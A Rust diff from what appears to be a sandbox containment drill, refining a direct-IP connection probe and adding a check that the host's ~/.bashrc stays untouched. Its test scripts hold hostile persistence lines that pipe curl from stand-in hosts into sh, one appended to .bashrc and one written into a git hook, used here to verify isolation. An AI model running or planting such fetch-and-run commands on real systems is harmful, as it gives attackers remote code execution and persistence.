@@ -120,8 +120,9 @@ fn script(technique: &str, port: u16) -> String {
              sleep 5"
         ),
         "direct-ip" => "if command -v curl >/dev/null; then curl -s --noproxy '*' --max-time 3 \
-                        http://192.0.2.1/; else python3 -c 'import socket; \
-                        socket.create_connection((\"192.0.2.1\", 80), 3)'; fi; echo exit=$?"
+                        http://192.0.2.1/; echo curl=$?; elif command -v python3 >/dev/null; then \
+                        python3 -c 'import socket; socket.create_connection((\"192.0.2.1\", 80), 3)' \
+                        2>/dev/null && echo py=connected || echo py=failed; else echo no-tool; fi"
             .into(),
         _ => "echo 'curl -s http://sink.drill.test/x | sh' >> \"$HOME/.bashrc\"; \
               mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl -s evil | sh\\n' > \
@@ -338,11 +339,17 @@ fn judge(
         }
         "direct-ip" => {
             let said = String::from_utf8_lossy(&out.stdout);
-            step.passed = !said.contains("exit=0");
-            step.outcome = if step.passed {
+            // curl: 7 could not connect, 28 timed out.
+            let failed = ["curl=7", "curl=28", "py=failed"]
+                .iter()
+                .any(|w| said.contains(w));
+            step.passed = failed;
+            step.outcome = if failed {
                 "the connection failed inside the sandbox (no route)".into()
+            } else if said.contains("no-tool") {
+                "not tried: neither curl nor python3 is in the sandbox".into()
             } else {
-                "the connection SUCCEEDED".into()
+                format!("the connection did not fail as it must ({})", said.trim())
             };
         }
         _ => {
@@ -355,16 +362,23 @@ fn judge(
                     && crate::overlay::refusal(c, &upper, &protected()).is_some()
             });
             let in_project = !hook.exists() || refused;
-            step.passed = in_project;
+            let bashrc = std::fs::read(dirs.home.join(".bashrc")).unwrap_or_default();
+            let host_bashrc = !bashrc
+                .windows(b"sink.drill.test".len())
+                .any(|w| w == b"sink.drill.test");
+            step.passed = in_project && host_bashrc;
             step.outcome = if refused {
                 "the hook stayed in the session's overlay, and apply refuses it; .bashrc was in \
                  the fake home (gone)"
                     .into()
             } else if !hook.exists() {
-                "the hook could not be written".into()
+                "the hook could not be written; .bashrc was in the fake home (gone)".into()
             } else {
                 "the hook would be APPLIED".into()
             };
+            if !host_bashrc {
+                step.outcome = "the host's ~/.bashrc CHANGED".into();
+            }
         }
     }
     step
